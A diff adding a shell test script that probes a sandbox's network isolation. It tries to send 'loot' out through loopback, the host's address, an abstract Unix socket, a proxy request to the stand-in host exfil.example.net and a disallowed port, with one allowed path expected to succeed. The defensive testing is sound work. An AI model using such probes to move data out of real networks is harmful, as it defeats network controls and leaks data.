@@ -1,0 +1,17 @@
+# Tries to send what it can read out of its network: straight to a
+# listener on the host's loopback, to the machine's own address, to an
+# abstract Unix socket of the host, through the proxy to a host nobody
+# allowed and to another port of an allowed host; and once to the host
+# the user allowed, which must work.
+set +e
+mkdir -p a
+p=@NETPROBE@
+{
+  echo "loopback: $($p tcp @LOOP@ loot-loopback)"
+  echo "other: $($p tcp @OTHER@:@ALLPORT@ loot-other)"
+  echo "abstract: $($p unix @ABSTRACT@ loot-abstract)"
+  echo "refused: $($p get http://exfil.example.net/loot-refused)"
+  echo "allowed: $($p get http://@OTHER@:@OKPORT@/loot-allowed)"
+  echo "other-port: $($p get http://@OTHER@:@NOPORT@/loot-other-port)"
+} > a/net.txt 2>&1
+echo "T1 was here" > a/t1.txt
